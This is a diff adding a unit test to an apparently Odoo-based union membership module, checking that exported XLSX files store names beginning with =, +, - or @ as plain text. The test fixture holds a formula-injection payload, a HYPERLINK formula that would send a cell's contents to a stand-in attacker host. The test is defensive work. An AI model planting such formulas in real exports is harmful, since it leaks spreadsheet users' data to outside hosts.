@@ -95,6 +95,25 @@ class TestContest(EmulationCommon):
         self.assertEqual(unit_rows[self.unit_b.name][2], 1)
         self.assertEqual(unit_rows[self.unit_b.name][3], 100)
 
+    def test_xlsx_keeps_user_text_as_text(self):
+        """Issue 13 #9: a name starting with =, +, - or @ is written as text, not as a formula."""
+        formula = '=HYPERLINK("http://attacker.example/?d="&A2,"Xem")'
+        portal_b1 = self.env["res.users"].create({
+            "login": "t_portal_b1x", "name": "B1", "partner_id": self.member_b1.partner_id.id,
+            "groups_id": [(6, 0, [self.env.ref("base.group_portal").id,
+                                  self.env.ref("union_membership.group_union_member").id])]})
+        self.member_b1.partner_id.name = formula
+        self.unit_b.name = "@SUM(1+1)"
+        self._attempt(portal_b1, self.right)
+        book = openpyxl.load_workbook(io.BytesIO(self.contest._get_xlsx()))
+        sheet_members, sheet_units = book.worksheets
+        cells = {cell.value: cell for row in sheet_members.iter_rows(min_row=2) for cell in row}
+        self.assertIn(formula, cells)
+        self.assertEqual(cells[formula].data_type, "s")
+        self.assertEqual(cells["@SUM(1+1)"].data_type, "s")
+        unit_cells = {cell.value: cell for row in sheet_units.iter_rows(min_row=2) for cell in row}
+        self.assertEqual(unit_cells["@SUM(1+1)"].data_type, "s")
+
     def test_contest_window_is_enforced(self):
         now = fields.Datetime.now()
         self.contest.write({"date_start": now + timedelta(days=2), "date_end": now + timedelta(days=9)})
